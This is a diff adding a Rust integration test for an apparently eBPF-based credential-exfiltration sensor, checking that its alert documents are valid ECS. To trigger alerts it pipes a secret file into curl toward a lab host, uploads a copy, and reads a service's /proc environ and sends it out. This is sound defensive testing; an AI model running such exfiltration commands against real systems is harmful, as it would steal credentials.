@@ -1,0 +1,146 @@
+//! Every kind of document the agent writes, made by the real agent on the real kernel, is valid
+//! ECS 9.4.0 (the published `@elastic/ecs` definitions) and matches `docs/FIELDS.md`: each field
+//! exists with a compatible type, categorisation values are allowed, `vigie.*` fields have the
+//! documented types, one field has one type across all documents, and `event.id` is unique.
+
+use std::collections::{BTreeMap, BTreeSet};
+use std::fs;
+
+use anyhow::{ensure, Context, Result};
+use integration_tests::ecs_schema::{self, Definitions, FieldsTable};
+use integration_tests::host_tools::{self, quoted};
+use integration_tests::{actor_exe, alert, Lab, Sensor, ALERT_TIMEOUT};
+use serde_json::Value;
+
+/// Enough bytes that the transfer outlasts a progress report or two.
+const TRANSFER: u64 = 4 << 20;
+/// The smallest ring the agent accepts: it overflows on a handful of exec records.
+const SMALLEST_RING: &str = "4096";
+/// Short processes run while the sensor is paused, each making fork, exec and exit records.
+const PROCESSES: u32 = 200;
+const SERVICE: &str = "test-homeserver";
+
+/// Every `event.action` the agent has.
+const KINDS: [&str; 8] = [
+    "sensor-started",
+    "secret-read",
+    "secret-derived",
+    "credential-exfiltration",
+    "exfiltration-progress",
+    "watch-updated",
+    "events-lost",
+    "sensor-stopped",
+];
+
+/// A secret file read directly, through a pipe and through a derived file, sent out, then
+/// replaced: `sensor-started`, `secret-read`, `secret-derived`, the alert and its progress,
+/// `watch-updated`, `sensor-stopped`.
+fn file_secret_documents() -> Result<Vec<Value>> {
+    let lab = Lab::new(actor_exe!())?;
+    let mut sensor = lab.sensor()?;
+    let dest = lab.remote().tcp_v4();
+
+    let run = lab.actor().read(lab.secret()).open_tcp(dest).send(TRANSFER).run()?;
+    sensor.expect(alert::is_progress_by(run.pid), ALERT_TIMEOUT)?;
+
+    let curl = format!("curl -sS -o /dev/null --max-time 10 --data-binary @- {}", host_tools::url(dest));
+    host_tools::sh(&format!("cat {} | {curl}", quoted(lab.secret())))?;
+    sensor.expect(
+        |line| alert::is_exfiltration(line) && alert::via_kind(line) == Some("pipe"),
+        ALERT_TIMEOUT,
+    )?;
+
+    let copy = lab.dir().join("copy");
+    host_tools::run("cp", &[lab.secret(), &copy])?;
+    sensor.expect(|line| action(line) == Some("secret-derived"), ALERT_TIMEOUT)?;
+    let upload = host_tools::curl_upload(&copy, dest)?;
+    sensor.expect(alert::is_exfiltration_by(upload), ALERT_TIMEOUT)?;
+
+    let replacement = lab.dir().join(".credentials.tmp");
+    fs::write(&replacement, "rotated = not-a-real-key\n")?;
+    fs::rename(&replacement, lab.secret())?;
+    sensor.expect(alert::is_watch_updated_for(lab.secret()), ALERT_TIMEOUT)?;
+    stopped_lines(&mut sensor)
+}
+
+/// A trusted service's memory read and sent: `secret-read` under the `process` category, an
+/// alert whose secret is no file.
+fn process_memory_documents() -> Result<Vec<Value>> {
+    let lab = Lab::new(actor_exe!())?;
+    let service = lab.start_service()?;
+    let mut sensor = lab.sensor_trusting_the_service(SERVICE)?;
+    let environ = format!("/proc/{}/environ", service.pid);
+    let run = lab.actor().read(&environ).tcp(lab.remote().tcp_v4()).run()?;
+    let alert = sensor.expect(alert::is_exfiltration_by(run.pid), ALERT_TIMEOUT)?;
+    ensure!(alert::secret_kind(&alert) == Some("process-memory"), "{alert:#}");
+    stopped_lines(&mut sensor)
+}
+
+/// A ring buffer too small for what runs while the agent is paused: `events-lost`.
+fn events_lost_documents() -> Result<Vec<Value>> {
+    let lab = Lab::new(actor_exe!())?;
+    let mut sensor = lab.sensor_with(&["--ring-buffer-bytes", SMALLEST_RING])?;
+    sensor.pause()?;
+    host_tools::sh(&format!("i=0; while [ $i -lt {PROCESSES} ]; do /bin/true; i=$((i+1)); done"))?;
+    sensor.resume()?;
+    sensor.expect(alert::is_events_lost, ALERT_TIMEOUT)?;
+    stopped_lines(&mut sensor)
+}
+
+/// Stops the sensor and returns every line it wrote, `sensor-stopped` last.
+fn stopped_lines(sensor: &mut Sensor) -> Result<Vec<Value>> {
+    let status = sensor.stop()?;
+    ensure!(status.success(), "vigie exited with {status}");
+    let lines = sensor.lines();
+    ensure!(lines.last().is_some_and(alert::is_sensor_stopped), "sensor-stopped comes last");
+    Ok(lines)
+}
+
+fn action(line: &Value) -> Option<&str> {
+    line.pointer("/event/action").and_then(Value::as_str)
+}
+
+#[test]
+#[ignore = "needs root and BPF: run with cargo xtask test"]
+fn every_document_kind_is_valid_ecs_and_documented() -> Result<()> {
+    let ecs = Definitions::load()?;
+    let table = FieldsTable::load()?;
+    let mut documents = file_secret_documents().context("file secret scenario")?;
+    documents.extend(process_memory_documents().context("process memory scenario")?);
+    documents.extend(events_lost_documents().context("events lost scenario")?);
+
+    let mut by_kind: BTreeMap<&str, usize> = BTreeMap::new();
+    for document in &documents {
+        *by_kind.entry(action(document).unwrap_or("?")).or_default() += 1;
+    }
+    eprintln!("{} documents checked: {by_kind:?}", documents.len());
+    for kind in KINDS {
+        ensure!(by_kind.contains_key(kind), "no {kind} document was made");
+    }
+    let categories: BTreeSet<&str> = documents
+        .iter()
+        .filter(|d| action(d) == Some("secret-read"))
+        .filter_map(|d| d.pointer("/event/category/0").and_then(Value::as_str))
+        .collect();
+    ensure!(categories == BTreeSet::from(["file", "process"]), "secret-read categories: {categories:?}");
+    let vias: BTreeSet<&str> = documents.iter().filter_map(alert::via_kind).collect();
+    ensure!(vias == BTreeSet::from(["file", "pipe", "process-memory"]), "vias: {vias:?}");
+
+    ensure!(ecs.version == ecs_schema::ECS_VERSION, "definitions of ECS {}", ecs.version);
+    let claimed: BTreeSet<&str> =
+        documents.iter().filter_map(|d| d.pointer("/ecs/version").and_then(Value::as_str)).collect();
+    ensure!(claimed == BTreeSet::from([ecs_schema::ECS_VERSION]), "ecs.version: {claimed:?}");
+
+    let ids: Vec<&str> =
+        documents.iter().filter_map(|d| d.pointer("/event/id").and_then(Value::as_str)).collect();
+    let unique: BTreeSet<&str> = ids.iter().copied().collect();
+    ensure!(ids.len() == documents.len() && unique.len() == ids.len(), "event.id missing or repeated");
+
+    let problems = ecs_schema::check(&documents, &ecs, &table);
+    ensure!(problems.is_empty(), "{} problems:\n{}", problems.len(), problems.join("\n"));
+
+    let seen = ecs_schema::fields_of(&documents);
+    let unseen: Vec<&str> = table.fields().filter(|f| !seen.contains(*f)).collect();
+    eprintln!("documented fields no scenario made: {unseen:?}");
+    Ok(())
+}
